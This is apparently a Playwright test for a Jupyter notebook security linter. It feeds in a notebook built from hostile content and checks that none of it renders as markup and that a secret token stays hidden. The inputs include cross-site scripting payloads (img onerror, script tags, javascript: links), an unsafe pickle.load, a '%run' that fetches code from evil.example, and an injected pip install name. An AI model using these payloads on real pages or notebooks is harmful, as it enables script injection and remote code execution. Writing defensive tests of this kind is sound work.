"""A notebook made by an enemy: nothing of it becomes markup, and no page throws."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playwright.sync_api import Page, expect

OpenNotebook = Callable[..., Page]
Code = Callable[..., dict[str, Any]]

ATTACK = "<img src=x onerror=\"window.hurt=1\"><script>window.hurt=2</script><a href='javascript:hurt=3'>x</a>"


def test_nothing_of_a_hostile_notebook_becomes_markup(open_document: OpenNotebook, code: Code, token: str) -> None:
    printed = {"output_type": "stream", "name": "stdout", "text": [f"{ATTACK} token = '{token}'\n"]}
    loaded = f'import pickle\npickle.load(open("""{ATTACK}""", "rb")) # {ATTACK}\n'
    cells = [
        code(loaded, printed, id_="a" * 64, mlsec=ATTACK, api_key=token),
        code(f"%run https://evil.example/{ATTACK}\n!pip install '{ATTACK}'"),
        {"cell_type": "markdown", "id": "b", "metadata": {}, "source": f"`{token}` {ATTACK}"},
        {"cell_type": "raw", "id": "c", "metadata": {}, "source": f"{token} {ATTACK}"},
    ]
    page = open_document(cells, name="<img src=x onerror=hurt=4>.ipynb", title=ATTACK, secret=token)
    page.locator("#mlsec-status button").click()
    panel = page.locator("#mlsec-findings")
    expect(panel.locator('[data-mlsec-finding][data-rule="unsafe-pickle-load"]')).to_have_count(1)
    cell_ = page.locator('.jp-Cell[data-windowed-list-index="0"]')
    cell_.locator(".cm-lintRange-error").first.hover()
    tip = page.locator(".cm-tooltip-lint")
    expect(tip).to_be_visible()
    expect(cell_.locator(".mlsec-edge")).to_be_visible()
    injected = page.locator(
        ":is(#mlsec-findings, #mlsec-status, .cm-tooltip-lint, .mlsec-edge) :is(img, script, a, iframe, style)"
    )
    expect(injected).to_have_count(0)
    assert page.evaluate("window.hurt") is None
    assert token not in panel.inner_html()
